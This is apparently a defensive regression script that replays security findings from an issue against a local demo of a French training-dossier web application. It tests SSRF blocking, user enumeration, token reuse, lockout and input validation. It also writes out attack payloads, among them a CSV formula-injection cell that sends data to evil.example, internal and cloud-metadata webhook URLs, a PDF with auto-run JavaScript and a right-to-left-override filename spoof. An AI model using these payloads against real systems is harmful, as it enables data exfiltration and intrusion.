"""Replays issue 27's findings against a running demo on localhost:8080 (loopback only).

Run: ./mvnw spring-boot:run > demo.log 2>&1 &   then   python3 tools/replays/issue-27-security.py demo.log
The demo writes its e-mails to its log (no SMTP server): the reset links are read there.
"""
import base64, json, re, sys, time, urllib.request, urllib.error

BASE = "http://localhost:8080"
LOG = sys.argv[1] if len(sys.argv) > 1 else "demo.log"


def call(user, method, path, body=None, password="formaflow", raw=None, headers=None):
    data = raw if raw is not None else (None if body is None else json.dumps(body).encode())
    req = urllib.request.Request(BASE + path, method=method, data=data)
    if user:
        req.add_header("Authorization", "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode())
    req.add_header("Content-Type", "application/json")
    for k, v in (headers or {}).items():
        req.add_header(k, v)
    start = time.perf_counter()
    try:
        with urllib.request.urlopen(req) as r:
            text = r.read().decode(errors="replace")
            return r.status, text, (time.perf_counter() - start) * 1000, dict(r.headers)
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode(errors="replace"), (time.perf_counter() - start) * 1000, dict(e.headers)


def show(label, result):
    print(f"{label}: {result[0]} {result[1][:230]}")


print("== Délégation : une demande, plus une prise de contrôle")
before = len(json.loads(call("sophie.martin", "GET", "/api/dossiers")[1]))
show("POST /api/organisation/delegations {siret: 42110064500017} (sophie.martin)",
     call("sophie.martin", "POST", "/api/organisation/delegations", {"siret": "42110064500017"}))
after = len(json.loads(call("sophie.martin", "GET", "/api/dossiers")[1]))
print(f"   dossiers de sophie.martin : {before} avant, {after} après (rien n'est partagé avant l'accord)")
review = json.loads(call("marie.durand", "GET", "/engine-rest/task?processDefinitionKey=delegationRequest")[1])
print("   tâche d'examen pour l'administratrice de l'organisme déléguant (marie.durand) :", [t["name"] for t in review])
show("   GET /api/organisation/delegations (marie.durand)", call("marie.durand", "GET", "/api/organisation/delegations"))
show("   DELETE /api/organisation/delegations/42110064500017 (sophie.martin)",
     call("sophie.martin", "DELETE", "/api/organisation/delegations/42110064500017"))

print("== Verrouillage : dix mauvais mots de passe ne bloquent pas le compte pour toujours")
for i in range(10):
    s = call("claire.fabre", "GET", "/engine-rest/user/claire.fabre/profile", password="mauvais")[0]
print("   10 mauvais mots de passe pour claire.fabre :", s)
print("   attente de la fin du délai (60 s au plus)…")
time.sleep(62)
show("   bon mot de passe ensuite", call("claire.fabre", "GET", "/engine-rest/user/claire.fabre/profile"))

print("== Webhooks vers des adresses internes (le classifieur refuse ; aucune requête n'est envoyée)")
for url in ["http://127.0.0.1:8080/actuator", "http://169.254.169.254/latest/meta-data", "http://10.0.0.1/", "http://[::1]/"]:
    show(f"   POST /api/webhooks {url}", call("marie.durand", "POST", "/api/webhooks", {"url": url}))

print("== Métriques métier")
show("   GET /actuator/metrics/formaflow.invoices.net (anonyme)", call(None, "GET", "/actuator/metrics/formaflow.invoices.net"))
show("   GET /actuator/health (anonyme)", call(None, "GET", "/actuator/health"))

print("== Injection de formule dans les exports CSV")
s, created, _, _ = call("marie.durand", "POST", "/api/dossiers", {"funderCode": "OCCITANIE",
                                                                  "title": '=HYPERLINK("http://evil.example/?d="&A2;"x")', "programmingYear": 2026})
print("   dossier créé :", s)
csv = call("marie.durand", "GET", "/api/reports/actions.csv")[1]
line = next((l for l in csv.splitlines() if "HYPERLINK" in l), "")
print("   cellule exportée :", line[:160])

print("== Énumération : même réponse, que l'adresse ait un compte ou non")
known = call(None, "POST", "/public/access-requests", {"siret": "42110064500017", "user": {"email": "marie.durand@scenes-formations.fr",
                                                        "firstName": "Marie", "lastName": "Durand"}})
unknown = call(None, "POST", "/public/access-requests", {"siret": "42110064500017", "user": {"email": "rejeu.27@scenes-formations.fr",
                                                          "firstName": "Rejeu", "lastName": "Vingt-Sept"}})
print(f"   adresse connue : {known[0]} {known[1][:120]}")
print(f"   adresse inconnue : {unknown[0]} {unknown[1][:120]}")
times = {"connue": [], "inconnue": []}
for i in range(5):
    times["connue"].append(call(None, "POST", "/public/password-resets", {"login": "paul.roux"})[2])
    times["inconnue"].append(call(None, "POST", "/public/password-resets", {"login": "personne.inconnue"})[2])
for k, v in times.items():
    print(f"   réinitialisation, identifiant {k} : médiane {sorted(v)[len(v) // 2]:.1f} ms")

print("== Un ancien lien de réinitialisation ne sert plus après un plus récent (paul.roux)")
time.sleep(3)  # the resets are sent in the background
links = re.findall(r"jeton=([A-Za-z0-9_-]+)", open(LOG, encoding="utf-8", errors="replace").read())
if len(links) >= 2:
    newer, older = links[-1], links[-2]
    show("   lien le plus récent utilisé", call(None, "POST", "/public/passwords", {"token": newer, "password": "Nouveau-mot-de-passe-27"}))
    show("   lien plus ancien ensuite", call(None, "POST", "/public/passwords", {"token": older, "password": "Autre-mot-de-passe-27"}))
else:
    print("   liens introuvables dans", LOG)

print("== Entrées invalides : jamais de 500")
long = "a" * 256
show("   titre de 256 caractères", call("marie.durand", "POST", "/api/dossiers", {"funderCode": "OCCITANIE", "title": long}))
mine = json.loads(call("marie.durand", "GET", "/api/dossiers")[1])[0]["id"]
show("   description de 2 001 caractères (demande de modification)", call("marie.durand", "POST", f"/api/dossiers/{mine}/change-requests",
                                                                    {"kind": "TRAINEE", "description": "d" * 2001}))
show("   référence de facture de sous-traitant de 101 caractères", call("marie.durand", "POST", f"/api/dossiers/{mine}/subcontractor-invoices",
                                                                     {"subcontractorSiret": "51234567900017", "reference": "R" * 101, "amountEuros": "100,00"}))
show("   rue de 256 caractères (contacts de l'organisme)", call("marie.durand", "PUT", "/api/organisation/contact",
                                                             {"street": "s" * 256, "postcode": "34000", "city": "Montpellier"}))
foreign = json.loads(call("claire.fabre", "GET", "/engine-rest/task?maxResults=1")[1])
if foreign:
    show("   DELETE /engine-rest/task/{tâche d'un autre} (sophie.martin)", call("sophie.martin", "DELETE", f"/engine-rest/task/{foreign[0]['id']}"))
    show("   DELETE /engine-rest/task/inexistante (sophie.martin)", call("sophie.martin", "DELETE", "/engine-rest/task/inexistante"))
show("   GET /error", call(None, "GET", "/error"))
show("   POST /engine-rest/process-instance/job-retries {}", call("marie.durand", "POST", "/engine-rest/process-instance/job-retries", {}))
show("   POST /engine-rest/condition {}", call("marie.durand", "POST", "/engine-rest/condition", {}))
show("   GET /api/dossiers/search?q=%00", call("marie.durand", "GET", "/api/dossiers/search?q=%00"))

print("== Fichiers versés : PDF actif, image, nom de fichier")
dossier = json.loads(created)["id"] if s == 201 else json.loads(call("marie.durand", "GET", "/api/dossiers")[1])[0]["id"]
pdf_js = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
          b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n4 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj\n"
          b"trailer<</Root 1 0 R>>\n%%EOF\n")


def upload(name, content):
    boundary = "----rejeu27"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"type\"\r\n\r\nSIGNED_AGREEMENT\r\n"
            f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: application/pdf\r\n\r\n").encode()
    body += content + f"\r\n--{boundary}--\r\n".encode()
    return call("marie.durand", "POST", f"/api/dossiers/{dossier}/documents", raw=body,
                headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})


show("   PDF avec OpenAction JavaScript", upload("convention.pdf", pdf_js))
show("   image réduite à ses premiers octets", upload("photo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 20))
renamed = upload("facture\u202efdp.exe", pdf_js.replace(b"/OpenAction 4 0 R", b""))
print(f"   nom de fichier « facture\\u202efdp.exe » : {renamed[0]}, enregistré sous",
      json.loads(renamed[1]).get("filename") if renamed[0] == 201 else renamed[1][:200])
show("   nom de fichier de 300 caractères avec U+202E", upload("f" * 290 + "\u202efdp.exe", pdf_js.replace(b"/OpenAction 4 0 R", b"")))

show("   noms de 300 caractères sur une demande d'accès anonyme", call(None, "POST", "/public/access-requests", {"siret": "42110064500017",
     "user": {"email": "long.nom@exemple.fr", "firstName": "F" * 300, "lastName": "L" * 300}}))

print("== Limite de débit sur les points publics")
codes = [call(None, "POST", "/public/access-requests", {"siret": "42110064500017", "user": {"email": f"flot{i}@exemple.fr",
                                                          "firstName": "Flot", "lastName": "Rapide"}})[0] for i in range(16)]
print("   16 demandes d'accès en rafale :", codes)

print("== Année de programmation hors limites")
for year in (99999, -2026):
    show(f"   programmingYear {year}", call("marie.durand", "POST", "/api/dossiers", {"funderCode": "OCCITANIE", "title": "Rejeu", "programmingYear": year}))

print("== En-têtes : CSP et contrôle de l'origine (une modification faite avec la session du navigateur)")
s, _, _, headers = call(None, "GET", "/dossiers.html")
print("   CSP de /dossiers.html :", headers.get("Content-Security-Policy"))


def session_of(user):
    """Logs in to Tasklist as its login page does (XSRF cookie from a first GET, then the form); returns the cookies."""
    import http.cookiejar
    jar = http.cookiejar.CookieJar()
    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar))
    opener.open(BASE + "/camunda/app/tasklist/default/").read()
    xsrf = next(c.value for c in jar if c.name == "XSRF-TOKEN")
    req = urllib.request.Request(BASE + "/camunda/api/admin/auth/user/default/login/tasklist", method="POST",
                                 data=f"username={user}&password=formaflow".encode())
    req.add_header("Content-Type", "application/x-www-form-urlencoded")
    req.add_header("X-XSRF-TOKEN", xsrf)
    opener.open(req).read()
    return "; ".join(f"{c.name}={c.value}" for c in jar)


cookie = session_of("julien.morel")
for origin in ("https://localhost:8080", "http://localhost:8081", "http://localhost:8080"):
    show(f"   POST /api/webhooks avec la session de julien.morel, Origin {origin}",
         call(None, "POST", "/api/webhooks", {"url": "http://127.0.0.1:9/"}, headers={"Cookie": cookie, "Origin": origin}))
